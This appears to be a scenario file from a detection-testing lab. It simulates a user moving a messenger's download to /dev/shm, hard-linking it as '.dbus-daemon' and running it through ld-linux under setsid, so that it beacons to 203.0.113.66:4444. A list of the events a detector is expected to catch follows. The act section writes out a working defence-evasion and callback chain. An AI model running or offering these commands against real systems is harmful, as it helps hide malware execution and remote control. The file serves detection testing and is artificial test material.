# A client that no table of programs names; what it saves is moved, linked under another name and loaded, never started.
title="A messenger's file is moved to /dev/shm, hard linked and started by ld-linux under setsid"
what="The messenger saves plan.bin; jule moves it to /dev/shm, links it under a daemon's name and starts the link by the dynamic linker."
host=ws3.example.org user=jule daemons="cron sshd" audit_rules=audit-wide.rules
people="hanna tobi ines marek jule"
aliases='postmaster: root\nroot: marek\norders: ines\noffice: hanna, jule\nabuse: root\n'
stand_ins=("/opt/beeper/beeper stands in for a messenger: it fetches one file by HTTP and writes it as the messenger does")

setup() { compile messenger /opt/beeper/beeper; cc -O1 -o "$base/out/www/plan.bin" "$lab/lib/stand-ins/beacon.c"; }
act() {
  small_talk 1
  desktop_as jule -- /opt/beeper/beeper 203.0.113.82 80 /plan.bin Downloads/plan.bin
  desktop_wait
  ssh_as jule <<'L'
mv Downloads/plan.bin /dev/shm/p; ln /dev/shm/p /dev/shm/.dbus-daemon
rm /dev/shm/p
setsid -f /lib64/ld-linux-x86-64.so.2 /dev/shm/.dbus-daemon 203.0.113.66 4444 >/dev/null
%sleep 1
L
}
truth() {
  net_step fetch 'beeper 203.0.113.82:80' 'the messenger fetches a file'
  file_step save 'beeper rename .*CREATE /home/jule/Downloads/plan.bin' 'and saves it'
  file_step link 'ln link .*CREATE /dev/shm/.dbus-daemon' 'it gets another name in memory'
  exec_step execute 'ld-linux-x86-64.so.2 /dev/shm/.dbus-daemon' 'the loader runs it'
  net_step beacon 'ld-linux.* 203.0.113.66:4444' 'it connects'
}
